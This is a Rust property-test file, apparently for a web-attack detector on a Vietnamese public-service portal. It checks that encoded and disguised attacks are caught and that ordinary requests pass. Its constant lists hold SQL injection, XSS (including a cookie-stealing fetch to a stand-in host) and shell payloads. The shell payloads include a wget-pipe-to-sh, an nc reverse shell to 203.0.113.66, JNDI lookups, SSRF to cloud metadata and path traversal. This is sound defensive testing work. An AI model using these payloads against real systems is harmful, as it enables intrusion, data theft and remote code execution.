//! Requests made here, of many words, places and disguises: attacks are found whatever they wear, and what citizens, officials and
//! programs ask is no attack whatever it holds.
#![expect(clippy::unwrap_used, reason = "a test stops where its ground is missing")]

use std::{cell::RefCell, sync::LazyLock};

use judge::Judge;
use proptest::{
    prelude::*,
    sample::select,
    test_runner::{Config, RngAlgorithm, TestRng, TestRunner},
};

mod judge;

/// Requests tried in one run.
const CASES: u32 = 768;

/// Attacks in disguise that may be missed, of a thousand.
const MISSED_PER_THOUSAND_MAX: usize = 10;

/// Ordinary requests that may be called attacks, of a thousand: their words are thrown together with malice.
const FALSE_PER_THOUSAND_MAX: usize = 5;

const AGENT: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

static JUDGE: LazyLock<Judge> = LazyLock::new(Judge::new);

/// Values that attack a database: blanks may be anything that it takes for one, letters any size.
const SQL: &[&str] = &[
    "7' or 'x'='x",
    "7) or (3=3",
    "H49' and 1=2 union select ma, ten, mat_khau from tai_khoan -- ",
    "-1 union all select null,null,table_name from information_schema.tables",
    "0\" or \"\"=\"",
    "1; drop table ho_so -- ",
    "1'; update can_bo set quyen='quan_tri' where id=7 -- ",
    "3 and sleep(9)",
    "3' and benchmark(9000000,sha1(1)) and '1'='1",
    "5 and (select count(*) from pg_user) > 0",
    "1 or pg_sleep(4) is null",
    "'; waitfor delay '0:0:7' -- ",
    "9 order by 14 -- ",
    "2 and ascii(substring((select user()),1,1)) > 77",
    "x' || (select password from users limit 1) || 'x",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "a'; exec master..xp_cmdshell 'dir' -- ",
    "1 union select load_file('/etc/hosts')",
    "1' into outfile '/var/www/html/q.php' -- ",
    "quan_tri' -- ",
    "1 and 7=(case when (5=5) then 7 else 0 end)",
    "1 and row(1,1)>(select count(*),concat(version(),floor(rand(0)*2)) x from dual group by x)",
    "'; copy cmd_exec from program 'id' -- ",
    "1' and json_extract('{\"a\":1}','$.a')=1 -- ",
    "' or '{\"a\":1}' <@ '{\"a\":1}",
    "' or ''='",
    "' or ''-'",
];

/// Values that attack a browser.
const MARKUP: &[&str] = &[
    "<script>fetch('//q.example/'+document.cookie)</script>",
    "\"><svg/onload=alert(7)>",
    "'><img src=x onerror=confirm(1)>",
    "<iframe src=javascript:prompt(2)>",
    "<details open ontoggle=alert(3)>",
    "\" autofocus onfocus=alert(4) x=\"",
    "javascript:alert(document.domain)",
    "<a href=\"jav&#x61;script:alert(5)\">xem</a>",
    "<video><source onerror=eval(atob('YQ=='))>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "';alert(String.fromCharCode(88));//",
    "<body onwebkitplaybacktargetavailabilitychanged=alert(1)>",
];

/// Values that attack a shell, a file system, an interpreter or a server inside: written as they have to be.
const PLAIN: &[&str] = &[
    ";wget http://203.0.113.66/m.sh -O- | sh",
    "| cat /etc/passwd",
    "`id`",
    "$(curl 203.0.113.66)",
    "127.0.0.1; uname -a",
    "127.0.0.1 && whoami",
    "a.pdf|nc -e /bin/sh 203.0.113.66 4444",
    "c'a't /e't'c/passwd",
    "w'h'oa\"m\"i",
    ";\"i\"fcon\\fig",
    "||ping -c 9 203.0.113.66||",
    "& dir c:\\inetpub &",
    "powershell -enc SQBFAFgA",
    ";{cat,/etc/shadow}",
    ";cat${IFS}/etc/group",
    ";/???/c?t /???/p??swd",
    ";who",
    "() { :; }; /bin/bash -c id",
    "../../../../etc/passwd",
    "....//....//....//etc/hosts",
    "..\\..\\..\\windows\\win.ini",
    "/var/www/../../etc/shadow",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=config.php",
    "../WEB-INF/web.xml",
    "../../.ssh/id_ed25519",
    "../.bash_history",
    "/proc/self/environ",
    "expect://id",
    "http://169.254.169.254/latest/meta-data/iam/",
    "http://[::ffff:127.0.0.1]/quan-tri",
    "http://[::]:8080/",
    "http://2130706433/",
    "gopher://127.0.0.1:6379/_flushall",
    "http://0x7f000001/server-status",
    "<?php system($_GET['a']); ?>",
    "<?=`id`?>",
    "<? php echo shell_exec('ls');",
    "{${phpinfo()}}",
    "O:8:\"DateTime\":1:{s:1:\"a\";i:7;}",
    "xyz_shell_exec('id')",
    "system/*a*/('ls -la')",
    "{{7*7}}",
    "{{config.__class__.__init__.__globals__}}",
    "${jndi:ldap://203.0.113.66/a}",
    "${${lower:j}ndi:rmi://203.0.113.66/a}",
    "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "<%= system('id') %>",
    "#{7*7}",
    "require('child_process').exec('id')",
    "while(true){}",
    "while(!false);",
    "while(Infinity);",
    "__proto__[isAdmin]=true",
    "*)(uid=*))(|(uid=*",
    "admin)(&(objectClass=*",
    "{\"$gt\":\"\"}",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
    "a\r\nSet-Cookie: phien=1",
    "vi\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
];

fn escaped(text: &str, keep: impl Fn(u8) -> bool) -> String {
    text.bytes()
        .map(|byte| if keep(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

/// As browsers do it.
fn encoded(text: &str) -> String {
    escaped(text, |byte| byte.is_ascii_alphanumeric() || b"-_.~".contains(&byte))
}

/// How a value is sent.
#[derive(Clone, Copy, Debug)]
enum Wire {
    Browser,
    Every,
    Twice,
    Thrice,
    PlusForBlank,
    SmallHex,
    Unicode,
    Bare,
}

fn wire(how: Wire, text: &str) -> String {
    match how {
        Wire::Browser => encoded(text),
        Wire::Every => escaped(text, |_| false),
        Wire::Twice => encoded(&encoded(text)),
        Wire::Thrice => encoded(&encoded(&encoded(text))),
        Wire::PlusForBlank => encoded(text).replace("%20", "+"),
        Wire::SmallHex => encoded(text).replace("%2F", "%2f").replace("%3C", "%3c"),
        Wire::Unicode => {
            encoded(text).replace("%27", "%u0027").replace("%3C", "%u003c").replace("%22", "%u0022")
        }
        // As tools send it: only what would end the request line is encoded.
        Wire::Bare => escaped(text, |byte| byte.is_ascii_graphic() && !b"%&#+".contains(&byte)),
    }
}

/// Where a value stands.
fn place(at: usize, value: &str) -> String {
    match at {
        0 => format!("/tra-cuu?ma={value}"),
        1 => format!("/ho-so/danh-sach?trang=2&loc={value}&sap=ngay"),
        2 => format!("/index.php?a=b&{value}=1"),
        3 => format!("/api/v2/co-quan?id=H49&tu={value}"),
        _ => format!("/nop.do;phien=7F?buoc=1&noi_dung={value}"),
    }
}

fn any_size(text: &str, turn: &[bool]) -> String {
    let sized = text.chars().enumerate().map(|(at, letter)| {
        if turn.get(at % turn.len().max(1)).copied().unwrap_or_default() {
            letter.to_ascii_uppercase()
        } else {
            letter
        }
    });
    sized.collect()
}

const WIRES: &[Wire] = &[
    Wire::Browser,
    Wire::Every,
    Wire::Twice,
    Wire::Thrice,
    Wire::PlusForBlank,
    Wire::SmallHex,
    Wire::Unicode,
    Wire::Bare,
];

/// Tries `CASES` of them, the same in every run, and tells those of which nothing, or something, is said.
fn tried<T: std::fmt::Debug>(
    all: &impl Strategy<Value = T>,
    attack: bool,
    url: impl Fn(T) -> String,
) -> Vec<String> {
    let config = Config { cases: CASES, failure_persistence: None, ..Config::default() };
    let rng = TestRng::deterministic_rng(RngAlgorithm::ChaCha);
    let wrong = RefCell::new(Vec::new());
    TestRunner::new_with_rng(config, rng)
        .run(all, |one| {
            let url = url(one);
            let said = JUDGE.says("GET", &url, AGENT, "https://dvc.example.vn/", 200);
            if said.is_empty() == attack {
                wrong.borrow_mut().push(format!("{said:?} {url}"));
            }
            Ok(())
        })
        .unwrap();
    wrong.into_inner()
}

fn assert_few(wrong: &[String], per_thousand_max: usize) {
    let share = wrong.len() * 1_000 / usize::try_from(CASES).unwrap();
    assert!(share <= per_thousand_max, "{} of {CASES}: {wrong:#?}", wrong.len());
}

#[test]
fn each_attack_is_found_as_a_browser_sends_it() {
    let all = SQL.iter().chain(MARKUP).chain(PLAIN);
    let missed: Vec<&&str> = all
        .filter(|text| {
            let url = format!("/tra-cuu?ma={}", encoded(text));
            JUDGE.says("GET", &url, AGENT, "", 200).is_empty()
        })
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn queries_in_a_request_are_found_in_every_disguise() {
    let blanks = select(vec![" ", "/**/", "\t", "\n", "  ", "/*nghi*/"]);
    let sizes = prop::collection::vec(any::<bool>(), 7);
    let all = (select(SQL), blanks, sizes, select(WIRES), 0usize..5);
    let wrong = tried(&all, true, |(text, blank, sizes, how, at)| {
        // The blank behind a dash comment is part of it.
        let body = text.trim_end();
        let tail = &text[body.len()..];
        let value = format!("{}{tail}", any_size(&body.replace(' ', blank), &sizes));
        place(at, &wire(how, &value))
    });
    assert_few(&wrong, MISSED_PER_THOUSAND_MAX);
}

#[test]
fn scripts_in_a_request_are_found_in_every_disguise() {
    let sizes = prop::collection::vec(any::<bool>(), 5);
    let all = (select(MARKUP), sizes, select(WIRES), 0usize..5);
    let wrong =
        tried(&all, true, |(text, sizes, how, at)| place(at, &wire(how, &any_size(text, &sizes))));
    assert_few(&wrong, MISSED_PER_THOUSAND_MAX);
}

#[test]
fn commands_paths_and_code_are_found_in_every_encoding_and_place() {
    let all = (select(PLAIN), select(WIRES), 0usize..5);
    let wrong = tried(&all, true, |(text, how, at)| place(at, &wire(how, text)));
    assert_few(&wrong, MISSED_PER_THOUSAND_MAX);
}

/// Words as people write them, here and elsewhere.
const WORDS: &[&str] = &[
    "Nguyễn",
    "Thị",
    "Hương",
    "hồ sơ",
    "đất đai",
    "khai sinh",
    "Ủy ban",
    "quyết định",
    "số 12/QĐ-UBND",
    "và",
    "hoặc",
    "không",
    "Đắk Lắk",
    "Ea H'leo",
    "Krông Pắc",
    "Ia H'Drai",
    "Cư M'gar",
    "D'Ran",
    "O'Brien",
    "Women's Union",
    "rock 'n' roll",
    "\"chờ bổ sung\"",
    "(lần 2)",
    "1) mở thêm quầy; 2) giảm phí",
    "chọn",
    "select",
    "union",
    "order by phone",
    "drop",
    "table",
    "insert coin",
    "update",
    "where",
    "null",
    "not",
    "is",
    "and",
    "or",
    "like",
    "C++",
    "C#",
    ".NET",
    "R&D",
    "A & B",
    "50%",
    "a > b",
    "x < y",
    "3 = 3?",
    "#12",
    "@lan",
    "lan@example.vn",
    "+84 912 345 678",
    "24/11/2026",
    "09:30",
    "$100",
    "€5",
    "1.000.000đ",
    "½",
    "…",
    "—",
    "“ngoặc”",
    "‘đơn’",
    "kill",
    "cat",
    "id",
    "head office",
    "time off",
    "ping pong",
    "sleep well",
    "who is who",
    "script",
    "cascade",
    "java",
    "PHP",
    "shell",
    "admin",
    "I'd like",
    "it's",
    "l'hôpital",
    "d'État",
    "L'id",
    "您好",
    "東京",
    "Москва",
    "host",
    "find",
    "date",
    "sort",
    "less",
    "more",
    "from A to B",
    "case",
    "when",
    "then",
    "end",
    "having",
    "group",
    "between 1 and 5",
    "in (a, b)",
    "echo",
    "tail",
    "test",
    "Thừa Thiên - Huế",
    "Bà Rịa – Vũng Tàu",
    "TP.HCM",
    "P.2/Q.10",
    "C:\\Hồ sơ",
    "mẫu 01/HS",
    "k1n2",
    "https://dvc.example.vn/a?b=c",
    "a/b/c",
    "[x]",
    "{y}",
    "*",
    "!",
    "?",
    "vợ/chồng",
    "nam|nữ",
    "x^2",
    "~100",
    "`",
];

const KEYS: &[&str] = &[
    "q",
    "ten",
    "ho_ten",
    "tu_khoa",
    "noi_dung",
    "ma",
    "id",
    "trang",
    "loc",
    "sap",
    "callback",
    "state",
    "code",
    "token",
    "next",
    "ngay",
    "dia_chi",
    "filter[ten]",
    "page[size]",
    "email",
    "ghi-chu",
    "utm_source",
    "file",
    "type",
    "name",
    "data",
    "host",
    "user",
    "date",
    "url",
    "path",
    "cmd_buoc",
    "order",
    "select",
    "group",
    "lang",
];

/// Values that people and programs send.
fn ordinary_value() -> impl Strategy<Value = String> {
    use base64_lines::encoded as base64;
    let words = prop::collection::vec(select(WORDS), 1..5).prop_map(|words| words.join(" "));
    let bytes = || prop::collection::vec(any::<u8>(), 4..90);
    prop_oneof![
        4 => words.clone(),
        1 => bytes().prop_map(|bytes| base64(&bytes, b'+', b'/', true)),
        1 => bytes().prop_map(|bytes| base64(&bytes, b'-', b'_', false)),
        1 => (bytes(), bytes()).prop_map(|(head, body)| {
            let part = |bytes: &[u8]| base64(bytes, b'-', b'_', false);
            format!("eyJhbGciOiJSUzI1NiJ9.{}.{}", part(&head), part(&body))
        }),
        1 => bytes().prop_map(|bytes| bytes.iter().map(|byte| format!("{byte:02x}")).collect()),
        1 => any::<[u16; 8]>().prop_map(|n| {
            let [a, b, c, d, e, f, g, h] = n.map(|part| format!("{part:04x}"));
            format!("{a}{b}-{c}-{d}-{e}-{f}{g}{h}")
        }),
        2 => (select(KEYS), words.clone(), any::<u16>()).prop_map(|(key, words, n)| {
            serde_json::json!({ key: words, "trang": n, "cho": [n, true, null], "c": {"tu": "2026-11-01"} }).to_string()
        }),
        1 => (select(WORDS), any::<u16>()).prop_map(|(word, n)| {
            serde_json::json!({ "where": [{"field": "ten", "op": "like", "value": word}], "limit": n }).to_string()
        }),
        1 => (select(KEYS), words).prop_map(|(key, words)| {
            format!("https://dvc.example.vn/ho-so?{}={}", encoded(key), encoded(&words))
        }),
        1 => (any::<i16>(), any::<i16>()).prop_map(|(a, b)| format!("{a},{b};{b}.5,-{a}")),
        1 => (any::<u32>(), select(KEYS)).prop_map(|(n, key)| format!("{key}:desc,ngay:asc|{n}")),
        1 => any::<u64>().prop_map(|n| format!("{n}")),
    ]
}

/// Base64, as this test needs it.
mod base64_lines {
    pub(crate) fn encoded(bytes: &[u8], plus: u8, slash: u8, padded: bool) -> String {
        let letters: Vec<u8> =
            (b'A'..=b'Z').chain(b'a'..=b'z').chain(b'0'..=b'9').chain([plus, slash]).collect();
        let mut text = String::new();
        for three in bytes.chunks(3) {
            let bits = three.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte))
                << (8 * (3 - three.len()));
            for at in 0..=three.len() {
                let letter = (bits >> (18 - 6 * at)) & 63;
                text.push(char::from(letters[usize::try_from(letter).unwrap()]));
            }
            if padded {
                text.extend(std::iter::repeat_n('=', 3 - three.len()));
            }
        }
        text
    }
}

const PATHS: &[&str] = &[
    "/",
    "/tim-kiem",
    "/ho-so/H49-2026-000123",
    "/api/v1/thu-tuc",
    "/sso/callback",
    "/gop-y.html",
    "/Th%C3%B4ng%20b%C3%A1o%20(s%E1%BB%91%2012).pdf",
    "/wps/portal/!ut/p/z1/04_Sj9/",
    "/Default.aspx",
    "/index.php/vi/tin-tuc",
    "/a;jsessionid=0A1B2C3D",
    "/graphql",
    "/odata/HoSo(7)/CoQuan",
    "/van-ban/28-2018-Q%C4%90-TTg",
    "/@lan/bai-viet",
];

#[test]
fn what_people_and_programs_ask_is_no_attack_whatever_it_holds() {
    let pairs = prop::collection::vec((select(KEYS), ordinary_value()), 0..4);
    let wrong = tried(&(select(PATHS), pairs, any::<bool>()), false, |(path, pairs, plus)| {
        let pairs: Vec<String> = pairs
            .iter()
            .map(|(key, value)| {
                let value = encoded(value);
                let value = if plus { value.replace("%20", "+") } else { value };
                format!("{}={value}", encoded(key))
            })
            .collect();
        format!("{path}?{}", pairs.join("&"))
    });
    assert_few(&wrong, FALSE_PER_THOUSAND_MAX);
}
